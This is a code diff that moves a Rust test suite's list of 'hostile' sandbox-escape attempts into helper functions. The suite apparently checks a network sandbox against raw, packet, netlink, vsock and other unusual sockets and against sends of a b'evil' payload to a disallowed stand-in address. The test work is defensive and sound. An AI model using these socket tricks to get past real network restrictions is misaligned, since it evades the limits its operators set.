@@ -77,52 +77,8 @@ fn tries(scene: &Scene, has_lsm: bool) -> Vec<Attempt> {
         harmless("an allowed name", "answered('api.test')"),
         harmless("an allowed name by TCP", "answered('api.test', tcp=True)"),
     ];
-    let fast_open = format!("socket.socket().sendto(b'evil', socket.MSG_FASTOPEN, ('{SITE}', 7))");
-    let mptcp = "socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)";
-    tries.push(hostile(14, "TCP Fast Open by sendto", fast_open).or(Layer::Seccomp));
-    tries.push(hostile(14, "MPTCP", mptcp));
-    tries.extend(
-        [
-            ("SCTP", "socket.socket(2, 1, 132)"),
-            ("UDP-Lite", "socket.socket(2, 2, 136)"),
-            ("SMC", "socket.socket(43, 1, 0)"),
-            ("a raw socket", "socket.socket(2, RAW, 255)"),
-            ("a ping socket", "socket.socket(2, 2, 1)"),
-            ("a ping socket by IPv6", "socket.socket(10, 2, 58)"),
-            ("a packet socket", "socket.socket(17, RAW, 3)"),
-            ("a vsock socket", "socket.socket(40, 1, 0)"),
-            ("the kernel's cryptography", "socket.socket(38, 5, 0)"),
-            ("an XDP socket", "socket.socket(44, RAW, 0)"),
-            ("netfilter by netlink", "socket.socket(16, RAW, 12)"),
-            ("sockets by netlink", "socket.socket(16, RAW, 4)"),
-        ]
-        .map(|(name, code)| hostile(15, name, code)),
-    );
-    for (name, code) in [
-        ("connect", format!("dial('{ELSEWHERE}')")),
-        ("connect by IPv6", format!("dial('{ELSEWHERE_V6}')")),
-        ("connect of a datagram socket", format!("dial('{ELSEWHERE}', kind=DGRAM)")),
-        ("sendto", format!("send('{ELSEWHERE}')")),
-        ("sendto by IPv6", format!("send('{ELSEWHERE_V6}')")),
-        ("another port", format!("dial('{SITE}', 8)")),
-        (
-            "sendmsg",
-            format!("socket.socket(2, DGRAM).sendmsg([b'evil'], [], 0, ('{ELSEWHERE}', 7))"),
-        ),
-        (
-            "sendto on a socket that is connected to an allowed address",
-            format!(
-                "made = socket.socket(2, DGRAM); made.connect(('{SITE}', 7)); \
-                 made.sendto(b'evil', ('{ELSEWHERE}', 7))"
-            ),
-        ),
-        (
-            "a flow label",
-            format!("socket.socket(10, 1).connect(('{ELSEWHERE_V6}', 7, 0x12345, 0))"),
-        ),
-    ] {
-        tries.push(hostile(16, name, code));
-    }
+    tries.extend(kinds());
+    tries.extend(calls());
     tries.extend(routes(scene, has_lsm));
     for (name, code) in [
         ("an IPv4-mapped address", format!("mapped('{ELSEWHERE}')")),
@@ -166,6 +122,64 @@ fn tries(scene: &Scene, has_lsm: bool) -> Vec<Attempt> {
         ("a service on the host's own address", format!("dial('{HERE}')")),
     ] {
         tries.push(hostile(25, name, code));
+    }
+    tries
+}
+
+/// Sockets that nobody could judge.
+fn kinds() -> Vec<Attempt> {
+    let mut tries = Vec::new();
+    let fast_open = format!("socket.socket().sendto(b'evil', socket.MSG_FASTOPEN, ('{SITE}', 7))");
+    let mptcp = "socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)";
+    tries.push(hostile(14, "TCP Fast Open by sendto", fast_open).or(Layer::Seccomp));
+    tries.push(hostile(14, "MPTCP", mptcp));
+    tries.extend(
+        [
+            ("SCTP", "socket.socket(2, 1, 132)"),
+            ("UDP-Lite", "socket.socket(2, 2, 136)"),
+            ("SMC", "socket.socket(43, 1, 0)"),
+            ("a raw socket", "socket.socket(2, RAW, 255)"),
+            ("a ping socket", "socket.socket(2, 2, 1)"),
+            ("a ping socket by IPv6", "socket.socket(10, 2, 58)"),
+            ("a packet socket", "socket.socket(17, RAW, 3)"),
+            ("a vsock socket", "socket.socket(40, 1, 0)"),
+            ("the kernel's cryptography", "socket.socket(38, 5, 0)"),
+            ("an XDP socket", "socket.socket(44, RAW, 0)"),
+            ("netfilter by netlink", "socket.socket(16, RAW, 12)"),
+            ("sockets by netlink", "socket.socket(16, RAW, 4)"),
+        ]
+        .map(|(name, code)| hostile(15, name, code)),
+    );
+    tries
+}
+
+/// Every call that reaches somebody.
+fn calls() -> Vec<Attempt> {
+    let mut tries = Vec::new();
+    for (name, code) in [
+        ("connect", format!("dial('{ELSEWHERE}')")),
+        ("connect by IPv6", format!("dial('{ELSEWHERE_V6}')")),
+        ("connect of a datagram socket", format!("dial('{ELSEWHERE}', kind=DGRAM)")),
+        ("sendto", format!("send('{ELSEWHERE}')")),
+        ("sendto by IPv6", format!("send('{ELSEWHERE_V6}')")),
+        ("another port", format!("dial('{SITE}', 8)")),
+        (
+            "sendmsg",
+            format!("socket.socket(2, DGRAM).sendmsg([b'evil'], [], 0, ('{ELSEWHERE}', 7))"),
+        ),
+        (
+            "sendto on a socket that is connected to an allowed address",
+            format!(
+                "made = socket.socket(2, DGRAM); made.connect(('{SITE}', 7)); \
+                 made.sendto(b'evil', ('{ELSEWHERE}', 7))"
+            ),
+        ),
+        (
+            "a flow label",
+            format!("socket.socket(10, 1).connect(('{ELSEWHERE_V6}', 7, 0x12345, 0))"),
+        ),
+    ] {
+        tries.push(hostile(16, name, code));
     }
     tries
 }
